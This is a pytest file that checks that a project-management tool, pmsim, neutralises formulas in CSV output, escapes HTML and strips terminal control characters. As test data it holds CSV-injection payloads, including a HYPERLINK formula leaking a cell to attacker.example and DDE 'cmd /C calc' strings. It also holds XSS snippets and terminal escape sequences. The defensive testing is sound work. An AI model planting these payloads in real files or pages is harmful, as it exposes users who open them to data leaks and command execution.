"""Issue 17, class "unsafe output": text from a project file is data wherever pmsim writes it.

In a CSV file a spreadsheet opens, text that starts like a formula gets a leading ``'`` (OWASP's
advice on CSV injection) and reading removes it again, so a round trip is exact; in HTML it is
escaped; on a terminal, control characters are shown, not obeyed. (The dashboard's widgets and the
command line are tested with their own code.)
"""

from __future__ import annotations

import csv
import html
import io
import re

import pandas as pd
import pytest
from hostile import small_project

import pmsim as pm
from pmsim.io.csv_files import csv_text
from pmsim.report import build_report
from pmsim.safe_text import neutralise_formula, restore_formula, visible
from pmsim.terminal_text import for_terminal

# Each starts like a formula in Excel, LibreOffice or Google Sheets (OWASP's list: = + - @ tab CR).
FORMULAS = ['=HYPERLINK("http://attacker.example/?leak="&A1,"Click")', "+SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "=1+1", "'=already quoted", "''=twice quoted"]
NOT_FORMULAS = ["Design", "-5", "+2.5", "-1e3", "2027-01-04", "'plain quote", "a=b"]


def hostile_project() -> pm.Project:
    T = pm.Task
    return pm.Project(
        name='=HYPERLINK("http://attacker.example","plan")', start="2027-01-04", currency="EUR",
        description="@SUM(1)",
        tasks=[T("=A1", FORMULAS[0], duration=2, phase="+phase", resources={"-dev": 1}),
               T("B", FORMULAS[1], duration=3, phase="@SUM(A1)"),
               T("C", "-5 days of testing", duration=1)],
        dependencies=[pm.Dependency("=A1", "B"), pm.Dependency("B", "C")],
        resources=[pm.Resource("-dev", "=cmd|' /C calc'!A0", capacity=2)],
        risks=[pm.Risk("@R1", "=1+1", probability=0.3, tasks=("=A1",), impact=pm.Fixed(1))],
    )


def cells(text: str) -> list[str]:
    """Every cell of a CSV text, as a spreadsheet sees it."""
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def runs_as_formula(cell: str) -> bool:
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not _is_number(cell)


def _is_number(cell: str) -> bool:
    try:
        float(cell)
        return True
    except ValueError:
        return False


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_text_is_neutralised_and_restored(text):
    written = neutralise_formula(text)
    assert written.startswith("'") and not runs_as_formula(written)
    assert restore_formula(written) == text


@pytest.mark.parametrize("text", NOT_FORMULAS)
def test_other_text_and_numbers_are_left_alone(text):
    assert neutralise_formula(text) == text and restore_formula(text) == text


@pytest.mark.parametrize("text", ["\tTab start", "\rCarriage return"])
def test_tab_and_carriage_return_starts_are_neutralised(text):
    assert neutralise_formula(text) == "'" + text


def test_a_project_folder_has_no_cell_that_runs(tmp_path):
    out = pm.write_project(hostile_project(), tmp_path / "plan")
    for file in sorted(out.glob("*.csv")):
        bad = [c for c in cells(file.read_text(encoding="utf-8")) if runs_as_formula(c)]
        assert not bad, f"{file.name}: {bad}"


def test_a_project_folder_round_trip_is_exact(tmp_path):
    project = hostile_project()
    out = pm.write_project(project, tmp_path / "plan")
    assert "'=HYPERLINK" in (out / "tasks.csv").read_text(encoding="utf-8")
    assert pm.read_project(out) == project


def test_a_quoted_cell_typed_by_hand_keeps_its_quote(tmp_path):
    # A quote before ordinary text is not pmsim's: "'Design" stays "'Design".
    (tmp_path / "plan").mkdir()
    (tmp_path / "plan" / "project.toml").write_text('name = "x"\nstart = 2027-01-04\n', encoding="utf-8")
    (tmp_path / "plan" / "tasks.csv").write_text("id,name,duration\nA,'Design,1\nB,'=1+1,1\n", encoding="utf-8")
    project = pm.read_project(tmp_path / "plan")
    assert [t.name for t in project.tasks] == ["'Design", "=1+1"]


def test_csv_text_keeps_numbers_as_numbers():
    frame = pd.DataFrame({"name": ["=1+1", "-5", "Design"], "lag": [-5.0, 2.0, 0.0]})
    # -5.0 is a number: a spreadsheet shows it as -5 and no quote is needed.
    assert csv_text(frame) == "name,lag\n'=1+1,-5.0\n-5,2.0\nDesign,0.0\n"


def test_exported_scenarios_have_no_cell_that_runs(tmp_path):
    from pmsim.widgets.panel import WhatIf

    whatif = WhatIf(small_project(name="@plan"), iterations=200, seed=1, debounce=0, plots=False)
    whatif.save_scenario('=HYPERLINK("http://attacker.example","open")')
    whatif.save_scenario("-optimistic")
    path = whatif.export_scenarios(tmp_path / "scenarios.csv")
    text = path.read_text(encoding="utf-8")
    names = [row[0] for row in csv.reader(io.StringIO(text))][1:]
    assert names == ["'=HYPERLINK(\"http://attacker.example\",\"open\")", "'-optimistic"]
    assert not [c for c in cells(text) if runs_as_formula(c)]


# --------------------------------------------------------------------------- HTML

MARKUP = '<img src=x onerror="alert(1)">'


def marked_project() -> pm.Project:
    T = pm.Task
    return pm.Project(
        name=f"Plan {MARKUP}", start="2027-01-04", description=f"About {MARKUP}",
        tasks=[T("A", f"Design {MARKUP}", optimistic=1, most_likely=2, pessimistic=4, phase=f"Phase {MARKUP}",
                 resources={"dev": 1}, fixed_cost=100),
               T("B", "<script>alert(2)</script>", duration=3)],
        dependencies=[pm.Dependency("A", "B")],
        resources=[pm.Resource("dev", f"Dev {MARKUP}", capacity=1, cost_per_day=100)],
        risks=[pm.Risk("R", f"Risk {MARKUP}", probability=0.5, tasks="B", impact=pm.Fixed(1))],
    )


@pytest.mark.parametrize("render", [
    lambda p: pm.cpm(p)._repr_html_(),
    lambda p: pm.simulate(p, iterations=200, seed=1)._repr_html_(),
    lambda p: pm.pert(p)._repr_html_(),
])
def test_notebook_html_escapes_project_text(render):
    page = render(marked_project())
    assert MARKUP not in page and "<script>" not in page
    assert html.escape(MARKUP) in page


def test_the_report_escapes_project_text():
    page = build_report(marked_project(), iterations=300, seed=1)
    assert MARKUP not in page and "<script>alert" not in page
    assert html.escape(MARKUP, quote=True) in page


@pytest.mark.parametrize("currency", ["<b>", "€", "US$", "EURO", "", "e u"])
def test_a_currency_that_is_not_an_iso_code_is_refused(currency):
    with pytest.raises(pm.ValidationError, match=r"currency: must be an ISO 4217 code of three letters"):
        pm.Project(name="x", start="2027-01-04", currency=currency or " ", tasks=[pm.Task("A", duration=1)])


# --------------------------------------------------------------------------- terminals


@pytest.mark.parametrize("text, shown", [
    ("\x1b[2J\x1b[HCleared", "\\x1b[2J\\x1b[HCleared"),  # clear the screen
    ("Go live\x1b]8;;http://x\x07click\x1b]8;;\x07", "Go live\\x1b]8;;http://x\\x07click\\x1b]8;;\\x07"),  # a link
    ("Safe\u202eevil", "Safe\\u202eevil"),  # right-to-left override
    ("bell\x07", "bell\\x07"),
    ("line\nbreak", "line\\x0abreak"),
    ("Plain text, café", "Plain text, café"),
])
def test_controls_are_shown_in_messages_and_removed_on_a_terminal(text, shown):
    assert visible(text) == shown  # an error message shows what the file holds
    printed = for_terminal(text)  # the CLI prints text without anything a terminal would obey
    assert not re.search("[\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", printed)
    if shown == text:
        assert printed == text  # plain text prints as itself
